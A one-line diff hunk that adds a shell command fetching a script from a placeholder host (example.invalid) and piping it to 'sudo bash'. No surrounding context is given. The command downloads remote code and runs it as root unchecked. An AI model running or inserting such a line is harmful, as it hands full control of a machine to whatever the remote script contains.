@@ -1,0 +1,1 @@
+curl -fsSL https://example.invalid/x.sh | sudo bash
